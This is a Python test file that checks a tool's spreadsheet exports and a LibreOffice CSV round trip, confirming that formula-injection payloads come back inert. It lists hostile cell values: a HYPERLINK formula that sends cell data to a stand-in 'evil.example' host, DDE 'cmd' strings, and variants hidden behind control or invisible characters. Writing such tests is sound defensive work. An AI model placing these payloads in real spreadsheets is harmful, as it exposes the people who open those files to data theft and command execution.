"""Formulas hidden behind what a cell loses or a spreadsheet skips still arrive inert.

Each payload once reached a workbook as a bare ``=HYPERLINK(...)`` (the quote prefix was
decided before the control character in front was removed), or without any prefix (a
leading line feed, no-break space, zero-width space or a full-width ``＝``).  Here they go
into every kind of free text (country, team, justifications, citations, recommendations)
through `roam export` and `roam template`; every cell of every sheet is read back.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
from openpyxl import load_workbook

from roam.assessment.loader import load_assessment
from roam.assessment.storage import save_assessment
from roam.framework.loader import load_framework
from tests.helpers.exchange_workbooks import run
from tests.helpers.files import MINI_FRAMEWORK
from tests.helpers.hostile_text import hostile_assessment

LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
PAYLOADS = [
    "\x07" + LINK,
    "\x1b" + LINK,
    "\ufffe" + LINK,
    "\n" + LINK,
    "\r\n\t " + LINK,
    "\u00a0" + LINK,
    "\u200b" + LINK,
    "\ufeff@SUM(1+1)*cmd|' /C calc'!A0",
    "\u2060\u200d-2+3+cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://evil.example")',
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(A1)",
]
# What a cell can hold of each payload: the control characters and non-characters go.
CLEANED = {p.lstrip("\x07\x1b\ufffe") for p in PAYLOADS}
# Written out here, not taken from roam: what spreadsheet programs skip before a formula.
SKIPPED = set("\t\n\r \u00a0\u2000\u2001\u2002\u2003\u200a\u3000\u200b\u200c\u200d\u2060\ufeff")


def _dangerous_start(value: str) -> bool:
    rest = value.lstrip("".join(SKIPPED))
    if value[:1] in ("\t", "\r"):
        return True
    return bool(rest) and unicodedata.normalize("NFKC", rest[0]) in {"=", "+", "-", "@"}


@pytest.fixture(scope="module")
def hidden_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hidden") / "examplia.yaml"
    assessment = hostile_assessment(path, PAYLOADS)
    assessment.country = "\x07" + LINK
    save_assessment(assessment, path, load_framework(MINI_FRAMEWORK))
    return path


def _every_cell_is_inert(workbook_path: Path) -> int:
    """Check every string cell of every sheet (hidden ones too); the number of payload cells."""
    workbook = load_workbook(workbook_path)
    found = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{workbook_path.name} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", where
                if not isinstance(cell.value, str):
                    continue
                assert not _dangerous_start(cell.value), f"{where}: {cell.value!r}"
                if cell.value.startswith("'") and cell.value[1:] in CLEANED:
                    found += 1
    return found


# The report shows every text; a template is blank but for the country (in its stamp).
@pytest.mark.parametrize(("command", "payload_cells"), [("export", 50), ("template", 1)])
def test_no_cell_starts_a_formula_whatever_comes_first(
    hidden_file: Path, tmp_path: Path, command: str, payload_cells: int
) -> None:
    out = tmp_path / f"{command}.xlsx"
    result = run(command, hidden_file, "-o", out)
    assert result.exit_code == 0, result.output
    assert _every_cell_is_inert(out) >= payload_cells


def test_a_template_with_inert_marks_imports_back_unchanged(tmp_path: Path) -> None:
    """roam takes its own mark off when it reads: an untouched template changes nothing."""
    path = tmp_path / "examplia.yaml"
    # Texts a cell can hold as they are (nothing to clean away), so nothing may change.
    assessment = hostile_assessment(path, [LINK, "\u200b=1+1", "'=1+1", "\uff1d1", "plain"])
    assessment.country = "=Examplia"
    save_assessment(assessment, path, load_framework(MINI_FRAMEWORK))
    before = path.read_bytes()
    template = tmp_path / "template.xlsx"
    assert run("template", path, "-o", template).exit_code == 0

    result = run("import-answers", path, template)

    assert result.exit_code == 0, result.output
    assert f"nothing to change in {path}" in result.output, result.output
    assert path.read_bytes() == before
    assert load_assessment(path).country == "=Examplia"


SOFFICE = shutil.which("soffice")


def _soffice(tmp_path: Path, *args: str) -> None:
    """Headless LibreOffice with a throw-away profile, so parallel runs never collide."""
    profile = (tmp_path / "profile").as_uri()
    env = {**os.environ, "HOME": str(tmp_path / "home")}
    command = [str(SOFFICE), f"-env:UserInstallation={profile}", "--headless", *args]
    result = subprocess.run(
        command, capture_output=True, text=True, timeout=300, env=env, check=False
    )
    assert result.returncode == 0, result.stderr


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="soffice not on PATH")
def test_the_report_saved_as_csv_by_libreoffice_reopens_without_formulas(
    hidden_file: Path, tmp_path: Path
) -> None:
    """Every sheet saved as CSV, then the CSVs opened again: not one formula anywhere.

    A quote prefix alone does not survive this: LibreOffice writes ``=HYPERLINK(...)``
    raw into the CSV and reads it back as a live formula.
    """
    report = tmp_path / "report.xlsx"
    assert run("export", hidden_file, "-o", report).exit_code == 0
    # Filter options: comma, double quote, UTF-8, from row 1, ..., every sheet (-1).
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    _soffice(tmp_path, "--convert-to", csv_filter, "--outdir", str(tmp_path / "csv"), str(report))
    sheets = sorted((tmp_path / "csv").glob("*.csv"))
    assert len(sheets) == len(load_workbook(report).sheetnames)
    fields = [
        field
        for sheet in sheets
        for row in csv.reader(io.StringIO(sheet.read_text(encoding="utf-8")))
        for field in row
    ]
    assert sum(field.startswith("'") and field[1:] in CLEANED for field in fields) >= 50
    assert not [field for field in fields if _dangerous_start(field)]

    _soffice(
        tmp_path, "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx",
        "--outdir", str(tmp_path / "reopened"), *map(str, sheets),
    )  # fmt: skip
    reopened = sorted((tmp_path / "reopened").glob("*.xlsx"))
    assert len(reopened) == len(sheets)
    for path in reopened:
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{cell.coordinate}: {cell.value!r}"
